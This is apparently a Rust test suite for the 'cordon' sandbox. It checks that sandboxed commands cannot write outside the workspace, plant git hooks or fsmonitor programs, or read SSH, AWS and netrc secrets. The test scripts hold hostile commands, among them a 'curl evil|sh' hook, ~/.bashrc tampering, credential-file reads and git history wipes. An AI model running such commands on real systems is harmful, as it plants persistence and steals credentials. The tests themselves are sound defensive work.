//! Filesystem threats: writing outside the workspace, planting persistence in .git or the
//! policy file, reading secrets (directly, through links, through /proc).

use std::fs;
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::PathBuf;
use std::process::Command;

use crate::util::{exists, is_root, Env, SECRET};

#[test]
fn writes_land_only_in_the_workspace() {
    let e = Env::new("write-boundary");
    let tag = format!("cordon-attack-{}", std::process::id());
    let script = format!(
        "echo inside > made-here; \
         echo pwned >> {home}/.bashrc; mkdir -p {home}/.local/bin && echo x > {home}/.local/bin/git; \
         echo x > {out}/planted; echo x > /etc/{tag}; echo x > /usr/local/bin/{tag}; \
         echo x > {root}/sibling-{tag}; true",
        home = e.home.display(),
        out = e.outside.display(),
        root = e.root.display(),
    );
    e.sh(&[], &script).ok();
    assert_eq!(
        fs::read_to_string(e.ws.join("made-here")).unwrap(),
        "inside\n"
    );
    assert_eq!(
        fs::read_to_string(e.home.join(".bashrc")).unwrap(),
        "# original\n"
    );
    for p in [
        e.home.join(".local/bin/git"),
        e.outside.join("planted"),
        format!("/etc/{tag}").into(),
        format!("/usr/local/bin/{tag}").into(),
        e.root.join(format!("sibling-{tag}")),
    ] {
        assert!(
            !exists(&p),
            "{} was written from inside the sandbox",
            p.display()
        );
    }
}

#[test]
fn tmp_dirs_are_private_empty_and_vanish() {
    let e = Env::new("private-tmp");
    let tag = format!("cordon-tmp-{}", std::process::id());
    fs::write(format!("/tmp/{tag}-host"), "host").unwrap();
    let run = e
        .sh(&[], &format!("ls -A /tmp /var/tmp /dev/shm; for d in /tmp /var/tmp /dev/shm; do echo x > $d/{tag}; done; cat /tmp/{tag}"))
        .ok();
    assert!(
        !run.stdout.contains(&format!("{tag}-host")),
        "host /tmp visible: {}",
        run.stdout
    );
    assert!(
        run.stdout.contains('x'),
        "private /tmp not writable: {}",
        run.stderr
    );
    for d in ["/tmp", "/var/tmp", "/dev/shm"] {
        assert!(
            !exists(&std::path::Path::new(d).join(&tag)),
            "{d} write reached the host"
        );
    }
    let _ = fs::remove_file(format!("/tmp/{tag}-host"));
}

#[test]
fn files_made_inside_keep_the_callers_ids() {
    let e = Env::new("ids");
    e.sh(&[], "echo x > owned; mkdir d").ok();
    let m = fs::metadata(e.ws.join("owned")).unwrap();
    assert_eq!(m.uid(), nix::unistd::getuid().as_raw());
    assert_eq!(m.gid(), nix::unistd::getgid().as_raw());
}

#[test]
fn allow_write_opens_exactly_that_path() {
    let e = Env::new("allow-write");
    let cache = e.outside.join("cache");
    fs::create_dir(&cache).unwrap();
    let script = format!(
        "echo y > {}/ok; echo y > {}/no",
        cache.display(),
        e.outside.display()
    );
    e.sh(&["--allow-write", cache.to_str().unwrap()], &script);
    assert!(exists(&cache.join("ok")), "--allow-write path not writable");
    assert!(
        !exists(&e.outside.join("no")),
        "sibling of --allow-write path was writable"
    );
}

#[test]
fn git_metadata_cannot_be_planted_or_swapped() {
    let e = Env::with_git("git-protect");
    fs::remove_dir_all(e.ws.join(".git/hooks")).unwrap();
    let config_before = fs::read(e.ws.join(".git/config")).unwrap();
    let script = "mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit; \
        printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config; \
        echo x > .git/info/attributes; echo ../evil > .git/commondir; \
        echo x > .git/config.worktree; printf '[network]\\nmode=\"full\"\\n' > .cordon.toml; \
        mv .git .git-old; mv .git/config .git/config2; true";
    e.sh(&[], script).ok();
    assert!(!exists(&e.ws.join(".git/hooks/pre-commit")), "hook planted");
    assert!(
        !exists(&e.ws.join(".git/hooks")),
        "placeholder for absent hooks left behind"
    );
    assert_eq!(
        fs::read(e.ws.join(".git/config")).unwrap(),
        config_before,
        ".git/config changed"
    );
    assert!(!exists(&e.ws.join(".git/info/attributes")));
    assert!(
        !exists(&e.ws.join(".git/commondir")),
        "commondir planted or placeholder left"
    );
    assert!(!exists(&e.ws.join(".git/config.worktree")));
    assert!(!exists(&e.ws.join(".cordon.toml")), "policy file created");
    assert!(!exists(&e.ws.join(".git-old")), ".git renamed");
    assert!(e.ws.join(".git/HEAD").is_file());
}

#[test]
fn a_workspace_without_git_cannot_get_one_planted() {
    let e = Env::new("no-git");
    e.sh(
        &[],
        "mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout; true",
    )
    .ok();
    assert!(!exists(&e.ws.join(".git")), "a .git was planted");
}

#[test]
fn a_concurrent_run_ending_does_not_unpin_placeholders() {
    // Run A pins placeholders for the absent .git and .cordon.toml; run B, in the same
    // workspace, starts and ends while A is still running. Removing the placeholders at B's
    // exit would detach A's mounts and let A plant them.
    let e = Env::new("concurrent-placeholders");
    let go = e.ws.join("b-finished");
    let script = format!(
        "i=0; while [ ! -e {go} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; \
         mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout; \
         printf '[network]\\nmode=\"full\"\\n' > .cordon.toml; true",
        go = go.display()
    );
    let mut a = e.sh_command(&[], &script).spawn().unwrap();
    // Give A time to set up, then run B to completion.
    assert!(
        crate::util::wait_until(|| exists(&e.ws.join(".cordon.toml"))),
        "run A never made its placeholders"
    );
    e.sh(&[], "true").ok();
    fs::write(&go, "").unwrap();
    let status = a.wait().unwrap();
    assert!(status.success(), "run A failed: {status:?}");
    assert!(
        !exists(&e.ws.join(".git")),
        "a .git was planted after B ended"
    );
    assert!(
        !exists(&e.ws.join(".cordon.toml")),
        "a policy file was planted after B ended (or a placeholder was left)"
    );
}

#[test]
fn linked_worktree_commits_but_cannot_touch_main_hooks() {
    let e = Env::with_git("worktree");
    let wt = e.root.join("wt");
    e.git(&["worktree", "add", "-q", wt.to_str().unwrap()]);
    let main_git = e.ws.join(".git");
    let script = format!(
        "echo change > file && git add file && git -c user.email=t@t -c user.name=t commit -qm wt-commit && \
         (echo evil > {g}/hooks/pre-commit; echo evil >> {g}/config; echo evil > .git; true)",
        g = main_git.display()
    );
    let mut argv: Vec<&std::ffi::OsStr> =
        vec!["run".as_ref(), "-w".as_ref(), wt.as_os_str(), "--".as_ref()];
    argv.extend(["sh".as_ref(), "-c".as_ref(), std::ffi::OsStr::new(&script)]);
    let mut cmd = e.command(&argv);
    cmd.current_dir(&wt);
    let run = crate::util::Run::from(cmd.output().unwrap());
    assert_eq!(run.code, 0, "{}", run.stderr);
    let log = Command::new("git")
        .args(["log", "--oneline", "-1"])
        .current_dir(&wt)
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&log.stdout).contains("wt-commit"),
        "worktree commit failed: {}",
        run.stderr
    );
    assert!(
        !exists(&main_git.join("hooks/pre-commit")),
        "main repo hook planted from worktree"
    );
    assert!(!fs::read_to_string(main_git.join("config"))
        .unwrap()
        .contains("evil"));
    assert!(fs::read_to_string(wt.join(".git"))
        .unwrap()
        .starts_with("gitdir:"));
}

#[test]
fn secrets_are_unreadable_directly_and_through_links() {
    let e = Env::new("read-boundary");
    std::os::unix::fs::symlink(e.home.join(".ssh/id_rsa"), e.ws.join("link")).unwrap();
    std::os::unix::fs::symlink(e.home.join(".aws"), e.ws.join("dirlink")).unwrap();
    let script = format!(
        "cat {h}/.ssh/id_rsa {h}/.aws/credentials {h}/.config/gh/hosts.yml {h}/.netrc; cat link dirlink/credentials; \
         ln {h}/.ssh/id_rsa hard 2>/dev/null && cat hard; cat /proc/1/root{h}/.ssh/id_rsa /proc/self/root{h}/.netrc; \
         tar cf - {h} 2>/dev/null | strings; grep -r . {h} 2>/dev/null; true",
        h = e.home.display()
    );
    let run = e
        .sh(&[], &format!("cat {}/.bashrc; {script}", e.home.display()))
        .ok();
    assert!(
        run.stdout.contains("# original"),
        "control: the fake home is not visible inside, so this test would test nothing:\n{}",
        run.stdout
    );
    assert!(
        !run.stdout.contains(SECRET),
        "secret leaked:\n{}",
        run.stdout
    );
    assert_eq!(
        fs::read_to_string(e.home.join(".ssh/id_rsa")).unwrap(),
        SECRET,
        "host secret damaged"
    );
}

#[test]
fn deny_read_flag_hides_more() {
    let e = Env::new("deny-read");
    // In the workspace, so the control run below can see it (the host's /tmp is not visible).
    let extra = e.ws.join("private.txt");
    fs::write(&extra, SECRET).unwrap();
    let run = e
        .sh(
            &["--deny-read", extra.to_str().unwrap()],
            &format!("cat {}; true", extra.display()),
        )
        .ok();
    assert!(!run.stdout.contains(SECRET));
    let run = e.sh(&[], &format!("cat {}", extra.display())).ok();
    assert!(
        run.stdout.contains(SECRET),
        "control: readable without --deny-read"
    );
}

#[test]
fn raw_disks_are_not_in_the_sandbox() {
    let e = Env::new("dev");
    let run = e.sh(&[], "ls /dev").ok();
    for absent in ["sda", "vda", "nvme0n1", "mem", "kmsg"] {
        assert!(
            !run.stdout.lines().any(|l| l == absent),
            "/dev/{absent} visible"
        );
    }
    assert!(run.stdout.lines().any(|l| l == "null"));
}

#[test]
fn root_caller_gains_nothing_from_uid_zero() {
    let e = Env::new("root");
    if !is_root() {
        // As a user, DAC already stops writes to /etc; the write-boundary test covers it.
        println!("note: root-only case, running as a user: checked by the write-boundary test");
        return;
    }
    let run = e
        .sh(&[], "echo x > /etc/cordon-root-test; chmod 777 /etc; true")
        .ok();
    assert!(!exists(std::path::Path::new("/etc/cordon-root-test")));
    let mode = fs::metadata("/etc").unwrap().mode() & 0o777;
    assert_eq!(mode, 0o755);
    let _ = run;
}

/// Runs `script` under `sh -c` in `dir` as the workspace (`-w dir`), with `flags`.
fn sh_in(e: &Env, dir: &std::path::Path, flags: &[&str], script: &str) -> crate::util::Run {
    let mut argv: Vec<&std::ffi::OsStr> = vec!["run".as_ref(), "-w".as_ref(), dir.as_os_str()];
    argv.extend(flags.iter().map(std::ffi::OsStr::new));
    argv.extend([
        "--".as_ref(),
        "sh".as_ref(),
        "-c".as_ref(),
        std::ffi::OsStr::new(script),
    ]);
    let mut cmd = e.command(&argv);
    cmd.current_dir(dir);
    crate::util::Run::from(cmd.stdin(std::process::Stdio::null()).output().unwrap())
}

#[test]
fn a_worktrees_commondir_cannot_choose_what_the_next_run_writes() {
    let e = Env::with_git("worktree-commondir");
    let wt = e.root.join("wt");
    e.git(&["worktree", "add", "-q", wt.to_str().unwrap()]);
    let commondir = e.ws.join(".git/worktrees/wt/commondir");
    let original = fs::read_to_string(&commondir).unwrap();
    // Run 1, in the worktree: its own `commondir` is read-only (the attack's first step).
    let run = sh_in(
        &e,
        &wt,
        &[],
        "echo ../../../../ > \"$(git rev-parse --git-dir)/commondir\"; true",
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        fs::read_to_string(&commondir).unwrap(),
        original,
        "commondir rewritten"
    );
    // Run 1', in the main repository: the worktree's files are read-only there too.
    let run = e.sh(&[], "echo ../../../../ > .git/worktrees/wt/commondir; printf '[core]\\n\\tfsmonitor = /evil\\n' > .git/worktrees/wt/config.worktree; mv .git/worktrees/wt .git/worktrees/moved; true").ok();
    assert!(run.code == 0);
    assert_eq!(
        fs::read_to_string(&commondir).unwrap(),
        original,
        "commondir rewritten from main"
    );
    // Git reads it only with extensions.worktreeConfig, so it is not mounted; one naming a
    // program is moved aside after the run (the repository may turn the extension on later).
    assert!(
        !exists(&e.ws.join(".git/worktrees/wt/config.worktree")),
        "config.worktree planted"
    );
    assert!(
        !exists(&e.ws.join(".git/worktrees/moved")),
        "worktree entry moved"
    );
    // A `commondir` planted some other way (an older cordon, by hand) is refused outright:
    // the run does not start, and the directory it names stays read-only.
    fs::write(&commondir, format!("{}\n", e.home.display())).unwrap();
    let run = sh_in(&e, &wt, &[], "echo pwned >> \"$HOME/.bashrc\"");
    assert_eq!(run.code, 125, "stdout {} stderr {}", run.stdout, run.stderr);
    assert!(run.stderr.contains("Git layout"), "{}", run.stderr);
    assert_eq!(
        fs::read_to_string(e.home.join(".bashrc")).unwrap(),
        "# original\n"
    );
}

#[test]
fn a_submodules_planted_config_and_hooks_are_moved_aside() {
    let e = Env::with_git("submodule-config");
    add_submodule(&e, "vendor/lib");
    let module = e.ws.join(".git/modules/vendor/lib");
    assert!(exists(&module.join("config")));
    let proof = e.root.join("outside/ran");
    let script = format!(
        "printf '#!/bin/sh\\necho ran >> {p}\\n' > \"$PWD/fsm.sh\" && chmod +x \"$PWD/fsm.sh\" && \
         git config -f .git/modules/vendor/lib/config core.fsmonitor \"$PWD/fsm.sh\" && \
         cp fsm.sh .git/modules/vendor/lib/hooks/post-checkout",
        p = proof.display()
    );
    let run = e.sh(&[], &script).ok();
    users_git_status(&e, &e.ws);
    assert!(
        !exists(&proof),
        "the user's git status ran the planted fsmonitor"
    );
    assert!(run.stderr.contains("refused"), "{}", run.stderr);
    assert!(exists(&module.join("config.cordon-refused")));
    assert!(exists(&module.join("hooks.cordon-refused")));
}

#[test]
fn cordons_own_configuration_is_read_only_under_a_writable_root() {
    let e = Env::new("own-config");
    let config = e.home.join(".config");
    // Absent: the folder cannot be created through `--allow-write ~/.config`.
    let run = e
        .sh(
            &["--allow-write", config.to_str().unwrap()],
            "mkdir -p \"$XDG_CONFIG_HOME/cordon\"; printf '[filesystem]\\nallow_write=[\"~/.bashrc\"]\\n' > \"$XDG_CONFIG_HOME/cordon/config.toml\"; echo ok > \"$XDG_CONFIG_HOME/other\"",
        )
        .ok();
    assert!(run.code == 0);
    assert!(
        !exists(&config.join("cordon/config.toml")),
        "user policy planted"
    );
    assert_eq!(
        fs::read_to_string(config.join("other")).unwrap(),
        "ok\n",
        "the widening still works"
    );
    // Present: it cannot be changed, nor moved aside.
    fs::create_dir_all(config.join("cordon")).unwrap();
    fs::write(config.join("cordon/config.toml"), "").unwrap();
    let run = e
        .sh(
            &["--allow-write", config.to_str().unwrap()],
            "echo '[network]' > \"$XDG_CONFIG_HOME/cordon/config.toml\"; mv \"$XDG_CONFIG_HOME/cordon\" \"$XDG_CONFIG_HOME/c2\"; true",
        )
        .ok();
    assert!(run.code == 0);
    assert_eq!(
        fs::read_to_string(config.join("cordon/config.toml")).unwrap(),
        ""
    );
    assert!(!exists(&config.join("c2")));
    // Through a link: the folder is a dotfiles checkout's, which is the workspace.
    let e2 = Env::new("own-config-link");
    let real = e2.ws.join("cordon");
    fs::create_dir_all(&real).unwrap();
    fs::write(real.join("config.toml"), "").unwrap();
    fs::create_dir_all(e2.home.join(".config")).unwrap();
    std::os::unix::fs::symlink(&real, e2.home.join(".config/cordon")).unwrap();
    let run = e2
        .sh(&[], "echo '[network]' >> cordon/config.toml; echo '[network]' >> \"$XDG_CONFIG_HOME/cordon/config.toml\"; true")
        .ok();
    assert!(run.code == 0);
    assert_eq!(
        fs::read_to_string(real.join("config.toml")).unwrap(),
        "",
        "written through the link"
    );
    // A --policy file inside the workspace is read-only too.
    let policy = e.ws.join("policy.toml");
    fs::write(&policy, "").unwrap();
    let run = e
        .sh(
            &["--policy", policy.to_str().unwrap()],
            "echo '[network]' > policy.toml; true",
        )
        .ok();
    assert!(run.code == 0);
    assert_eq!(fs::read_to_string(&policy).unwrap(), "");
}

#[test]
fn a_hidden_path_cannot_be_carried_away_by_renaming_a_parent() {
    let e = Env::new("hide-rename");
    let local = e.home.join(".local");
    let keyring = local.join("share/keyrings/login.keyring");
    fs::create_dir_all(keyring.parent().unwrap()).unwrap();
    fs::write(&keyring, SECRET).unwrap();
    let state = local.join("state/cordon");
    fs::create_dir_all(&state).unwrap();
    fs::write(state.join("approvals.json"), SECRET).unwrap();
    let flags = ["--allow-write", local.to_str().unwrap()];
    let run = e
        .sh(&flags, "mv ~/.local/share ~/.local/share.x; mv ~/.local/state ~/.local/state.x; mv ~/.local/share/keyrings ~/.local/k; true")
        .ok();
    assert!(run.code == 0);
    assert!(
        exists(&keyring) && exists(&state),
        "a parent of a hidden path was renamed"
    );
    let run = e
        .sh(&flags, "cat ~/.local/share.x/keyrings/login.keyring ~/.local/state.x/cordon/approvals.json ~/.local/k/login.keyring ~/.local/share/keyrings/login.keyring; true")
        .ok();
    assert!(!run.stdout.contains(SECRET), "{}", run.stdout);
    // Writing elsewhere in the widened root still works.
    let run = e.sh(&flags, "echo ok > ~/.local/note").ok();
    assert!(run.code == 0);
    assert_eq!(fs::read_to_string(local.join("note")).unwrap(), "ok\n");
}

#[test]
fn a_link_out_of_a_denied_directory_is_hidden_at_its_target() {
    let e = Env::new("stow-link");
    let real = e.home.join("dotfiles/ssh/id_stow");
    fs::create_dir_all(real.parent().unwrap()).unwrap();
    fs::write(&real, SECRET).unwrap();
    std::os::unix::fs::symlink(&real, e.home.join(".ssh/id_stow")).unwrap();
    let run = e
        .sh(&[], &format!("cat {} ~/.ssh/id_stow; true", real.display()))
        .ok();
    assert!(!run.stdout.contains(SECRET), "{}", run.stdout);
    assert_eq!(fs::read_to_string(&real).unwrap(), SECRET);
}

#[test]
fn a_nested_repository_the_command_records_cannot_run_code_in_the_users_git_status() {
    let e = Env::with_git("nested-gitlink");
    let proof = e.root.join("outside/ran");
    let script = format!(
        "git init -q sub && git -C sub -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && \
         printf '#!/bin/sh\\necho ran > {p}\\n' > sub/.git/fsm && chmod +x sub/.git/fsm && \
         git -C sub config core.fsmonitor \"$PWD/sub/.git/fsm\" && \
         printf '#!/bin/sh\\necho ran > {p}\\n' > sub/.git/hooks/post-checkout && chmod +x sub/.git/hooks/post-checkout && \
         git add sub && git -c user.email=t@t -c user.name=t commit -qm add-sub",
        p = proof.display()
    );
    let run = e.sh(&[], &script).ok();
    // On the host, as the user: the status descends into `sub` and must run nothing.
    let status = e.git(&["status", "--porcelain"]);
    assert!(
        !exists(&proof),
        "the user's git ran the sandbox's fsmonitor: {status}"
    );
    assert!(run.stderr.contains("refused"), "{}", run.stderr);
    assert!(exists(&e.ws.join("sub/.git/config.cordon-refused")));
    assert!(exists(&e.ws.join("sub/.git/hooks.cordon-refused")));
    let audit = fs::read_to_string(e.audit_path()).unwrap_or_default();
    let default_audit =
        fs::read_to_string(e.home.join(".local/state/cordon/audit.jsonl")).unwrap_or_default();
    assert!(
        audit.contains("git_config_refused") || default_audit.contains("git_config_refused"),
        "no audit event"
    );
    // Split over two runs (the repository first, the gitlink later): still caught.
    let e = Env::with_git("nested-gitlink-split");
    let proof = e.root.join("outside/ran");
    e.sh(
        &[],
        &format!(
            "git init -q sub && git -C sub -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && \
             git -C sub config core.fsmonitor 'echo ran > {}'",
            proof.display()
        ),
    )
    .ok();
    e.sh(&[], "git add sub").ok();
    e.git(&["status", "--porcelain"]);
    assert!(
        !exists(&proof),
        "the split attack ran code in the user's git"
    );
    // A nested repository with harmless configuration is left as it is.
    let e = Env::with_git("nested-gitlink-harmless");
    e.sh(&[], "git init -q sub && git -C sub -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && git add sub").ok();
    assert!(exists(&e.ws.join("sub/.git/config")));
    assert!(!exists(&e.ws.join("sub/.git/config.cordon-refused")));
}

#[test]
fn wiping_git_leaves_the_history_the_run_started_with() {
    let e = Env::with_git("git-wipe");
    e.git(&["gc", "-q"]);
    let head = e.git(&["rev-parse", "HEAD"]).trim().to_string();
    let packs = |dir: &std::path::Path| -> Vec<String> {
        let mut v: Vec<String> = fs::read_dir(dir.join(".git/objects/pack"))
            .map(|rd| {
                rd.filter_map(Result::ok)
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| n.ends_with(".pack") || n.ends_with(".idx"))
                    .collect()
            })
            .unwrap_or_default();
        v.sort();
        v
    };
    let before = packs(&e.ws);
    assert!(!before.is_empty(), "git gc made no pack");
    // Legitimate work first: commits and a gc inside still succeed.
    e.sh(
        &[],
        "git -c user.email=t@t -c user.name=t commit -q --allow-empty -m two && git gc -q",
    )
    .ok();
    // Then the wipe.
    e.sh(
        &[],
        "rm -rf .git/objects .git/refs .git/HEAD .git/packed-refs .git/logs; true",
    )
    .ok();
    let after = packs(&e.ws);
    assert!(
        before.iter().all(|p| after.contains(p)),
        "packs lost: before {before:?}, after {after:?}"
    );
    // Recoverable by hand: the commit the run started with is still there.
    fs::create_dir_all(e.ws.join(".git/refs/heads")).unwrap();
    fs::write(e.ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let kind = e.git(&["cat-file", "-t", &head]);
    assert_eq!(kind.trim(), "commit");
}

/// A nested repository at `dir` (relative to the workspace) with one commit, whose
/// `core.fsmonitor` would write `proof`: shell lines for inside the sandbox.
fn planted(dir: &str, proof: &std::path::Path) -> String {
    format!(
        "git init -q {dir} && git -C {dir} -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && \
         printf '#!/bin/sh\\necho ran >> {p}\\n' > \"$PWD/fsm.sh\" && chmod +x \"$PWD/fsm.sh\" && \
         git -C {dir} config core.fsmonitor \"$PWD/fsm.sh\"",
        p = proof.display()
    )
}

#[test]
fn planted_git_configuration_is_refused_however_it_is_reached() {
    let commit = "git -c user.email=t@t -c user.name=t commit -qm c";
    let cases: Vec<(&str, Vec<String>)> = vec![
        // The nested repository's shared directory (`commondir`) holds the configuration.
        ("commondir", vec![format!(
            "git init -q sub && git -C sub -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && \
             mkdir -p .cache/ec && cp -r sub/.git/. .cache/ec/ && {} && \
             git config -f .cache/ec/config core.fsmonitor \"$PWD/fsm.sh\" && \
             echo ../../.cache/ec > sub/.git/commondir && git add sub && {commit}",
            "PLANT"
        )]),
        // Recorded in one run, swapped for a planted repository in the next.
        ("swap", vec![
            format!("git init -q sub && git -C sub -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && git add sub && {commit} && PLANT_AT .cache/staging"),
            "rm -rf sub/.git && mv .cache/staging/.git sub/.git".into(),
        ]),
        // The index was split: the gitlink lives in the shared index.
        ("split-index", vec![format!("PLANT_AT sub && git add sub && git update-index --split-index && {commit}")]),
        // Two levels down.
        ("deep", vec![format!(
            "git init -q sub && PLANT_AT sub/inner && git -C sub add inner && git -C sub -c user.email=t@t -c user.name=t commit -qm i && git add sub && {commit}"
        )]),
        // Behind a comment ending in `\`, which continues nothing for git.
        ("comment-continued", vec![format!(
            "git init -q sub && git -C sub -c user.email=t@t -c user.name=t commit -q --allow-empty -m s && PLANT && \
             printf '# a note \\\\\\n\\tfsmonitor = %s\\n' \"$PWD/fsm.sh\" >> sub/.git/config && git add sub && {commit}"
        )]),
        // `.git` of the nested repository is a symbolic link.
        ("symlink", vec![format!("PLANT_AT sub && mkdir -p .cache && mv sub/.git .cache/subgit && ln -s ../.cache/subgit sub/.git && git add sub && {commit}")]),
    ];
    let mut ran = Vec::new();
    for (name, runs) in cases {
        let e = Env::with_git(&format!("planted-{name}"));
        let proof = e.root.join("outside/ran");
        let mut last = String::new();
        for script in &runs {
            let script = script
                .replace("PLANT_AT sub/inner", &planted("sub/inner", &proof))
                .replace("PLANT_AT .cache/staging", &planted(".cache/staging", &proof))
                .replace("PLANT_AT sub", &planted("sub", &proof))
                .replace(
                    "PLANT",
                    &format!(
                        "printf '#!/bin/sh\\necho ran >> {p}\\n' > \"$PWD/fsm.sh\" && chmod +x \"$PWD/fsm.sh\"",
                        p = proof.display()
                    ),
                );
            last = e.sh(&[], &script).ok().stderr;
        }
        users_git_status(&e, &e.ws);
        if exists(&proof) {
            ran.push(format!("{name} (last stderr: {last})"));
        }
    }
    assert!(
        ran.is_empty(),
        "the user's git status ran the planted fsmonitor: {ran:#?}"
    );
}

#[test]
fn no_index_yet_and_another_writable_root_are_checked_too() {
    // A repository with no index when the run starts (a new project).
    let e = Env::new("planted-no-index");
    e.git(&["init", "-q", "."]);
    let proof = e.root.join("outside/ran");
    e.sh(&[], &format!("{} && git add sub", planted("sub", &proof)))
        .ok();
    users_git_status(&e, &e.ws);
    assert!(!exists(&proof), "no-index: the planted fsmonitor ran");
    // The nested repository's git dir in another writable root.
    let e = Env::with_git("planted-other-root");
    let proof = e.root.join("outside/ran");
    let other = e.root.join("other");
    fs::create_dir_all(&other).unwrap();
    let script = format!(
        "{} && mv sub/.git {o}/subgit && echo 'gitdir: {o}/subgit' > sub/.git && git add sub",
        planted("sub", &proof),
        o = other.display()
    );
    e.sh(&["--allow-write", other.to_str().unwrap()], &script)
        .ok();
    users_git_status(&e, &e.ws);
    assert!(!exists(&proof), "other root: the planted fsmonitor ran");
}

#[test]
fn submodule_work_inside_keeps_its_configuration() {
    let e = Env::with_git("submodule-legit");
    let upstream = e.root.join("outside/lib");
    fs::create_dir_all(&upstream).unwrap();
    crate::util::git_in(&upstream, &e.home, &["init", "-q", "."]);
    crate::util::git_in(
        &upstream,
        &e.home,
        &["commit", "-q", "--allow-empty", "-m", "lib"],
    );
    let run = e
        .sh(
            &[],
            &format!(
                "git -c protocol.file.allow=always submodule add -q {} vendor/lib && git -c user.email=t@t -c user.name=t commit -qm sub && git -C vendor/lib log --oneline",
                upstream.display()
            ),
        )
        .ok();
    assert!(!run.stderr.contains("refused"), "{}", run.stderr);
    assert!(exists(&e.ws.join(".git/modules/vendor/lib/config")));
    assert!(!exists(
        &e.ws.join(".git/modules/vendor/lib/config.cordon-refused")
    ));
}

#[test]
fn a_linked_worktree_cannot_plant_code_in_the_main_checkouts_git() {
    let e = Env::with_git("worktree-main-index");
    fs::write(e.ws.join(".gitignore"), ".wt/\nfsm.sh\n").unwrap();
    e.git(&["add", ".gitignore"]);
    e.git(&["commit", "-qm", "ignore"]);
    e.git(&["config", "extensions.worktreeConfig", "true"]);
    let feat = e.ws.join(".wt/feat");
    e.git(&["worktree", "add", "-q", feat.to_str().unwrap()]);
    let proof = e.root.join("outside/ran");
    let main_git = e.ws.join(".git");
    let script = format!(
        "{plant} && \
         git config -f {g}/config.worktree core.fsmonitor \"$PWD/fsm.sh\"; \
         GIT_DIR={g} GIT_WORK_TREE={m} git update-index --add --cacheinfo 160000,$(git -C evil rev-parse HEAD),.wt/feat/evil; true",
        plant = planted("evil", &proof),
        g = main_git.display(),
        m = e.ws.display()
    );
    let run = sh_in(&e, &feat, &[], &script);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        !fs::read_to_string(main_git.join("config.worktree"))
            .unwrap_or_default()
            .contains("fsmonitor"),
        "the main checkout's config.worktree was written"
    );
    users_git_status(&e, &e.ws);
    assert!(
        !exists(&proof),
        "the user's git status in the main checkout ran planted code"
    );
}

#[test]
fn planted_git_configuration_is_refused_when_a_transaction_is_applied() {
    let e = Env::with_git("planted-tx");
    let proof = e.root.join("outside/ran");
    let run = e
        .sh(
            &["--transaction", "t1", "--apply", "auto"],
            &format!("{} && git add sub", planted("sub", &proof)),
        )
        .ok();
    users_git_status(&e, &e.ws);
    assert!(
        !exists(&proof),
        "applied: the user's git status ran planted code; {}",
        run.stderr
    );
}

#[test]
fn a_git_file_planted_by_an_earlier_run_opens_nothing() {
    let e = Env::with_git("planted-gitdir");
    let sub = e.ws.join("sub");
    // Run 1, in the workspace: a `.git` file in a subfolder naming the home, and one naming
    // another repository's worktree entry.
    let other = e.root.join("outside/other");
    fs::create_dir_all(&other).unwrap();
    crate::util::git_in(&other, &e.home, &["init", "-q", "."]);
    crate::util::git_in(
        &other,
        &e.home,
        &["commit", "-q", "--allow-empty", "-m", "o"],
    );
    let bare_clone = |name: &str| {
        let to = e.root.join("outside").join(name);
        let args = [
            "clone",
            "-q",
            "--bare",
            other.to_str().unwrap(),
            to.to_str().unwrap(),
        ];
        crate::util::git_in(&e.root, &e.home, &args);
        to
    };
    let bare = bare_clone("bare.git");
    // A bare repository whose config says so in a line git reads and a line-by-line reader
    // would not (`[core]bare = true`, header and setting together).
    let bare2 = bare_clone("bare2.git");
    fs::write(bare2.join("config"), "[core]bare = true\n").unwrap();
    // Bare only in config.worktree, which git reads with extensions.worktreeConfig; and a
    // submodule's Git directory whose work tree is gone (`git rm`), named with a comment.
    let bare3 = bare_clone("bare3.git");
    fs::write(
        bare3.join("config"),
        "[core]\n\trepositoryformatversion = 1\n\tbare = false\n[extensions]\n\tworktreeConfig = true\n",
    )
    .unwrap();
    fs::write(bare3.join("config.worktree"), "[core]\n\tbare = true\n").unwrap();
    let orphan = bare_clone("orphan.git");
    fs::write(
        orphan.join("config"),
        "[core]\n\tbare = false\n\tworktree = ../gone/sub # removed by git rm\n",
    )
    .unwrap();
    let other_wt = e.root.join("outside/other-wt");
    crate::util::git_in(
        &other,
        &e.home,
        &["worktree", "add", "-q", other_wt.to_str().unwrap()],
    );
    e.sh(
        &[],
        &format!(
            "mkdir -p sub sub2 sub3 sub4 sub5 sub6 sub7 && printf 'gitdir: %s\\n' \"$HOME\" > sub/.git && printf 'gitdir: {}\\n' > sub2/.git && printf 'gitdir: {}\\n' > sub3/.git && printf 'gitdir: {}\\n' > sub4/.git && printf 'gitdir: {}\\n' > sub5/.git && printf 'gitdir: {}\\n' > sub6/.git && printf 'gitdir: {}\\n' > sub7/.git",
            other.join(".git/worktrees/other-wt").display(),
            other.join(".git").display(),
            bare.display(),
            bare2.display(),
            bare3.display(),
            orphan.display()
        ),
    )
    .ok();
    // Run 2, in each subfolder: refused before anything runs; nothing outside is written.
    for dir in [
        &sub,
        &e.ws.join("sub2"),
        &e.ws.join("sub3"),
        &e.ws.join("sub4"),
        &e.ws.join("sub5"),
        &e.ws.join("sub6"),
        &e.ws.join("sub7"),
    ] {
        let run = sh_in(
            &e,
            dir,
            &[],
            &format!(
                "echo pwned >> \"$HOME/.bashrc\"; for g in {} {} {} {}; do echo pwned > $g/HEAD; done",
                other.join(".git").display(),
                bare2.display(),
                bare3.display(),
                orphan.display()
            ),
        );
        assert_eq!(run.code, 125, "{}: {}", dir.display(), run.stderr);
        assert!(run.stderr.contains("Git layout"), "{}", run.stderr);
    }
    assert_eq!(
        fs::read_to_string(e.home.join(".bashrc")).unwrap(),
        "# original\n"
    );
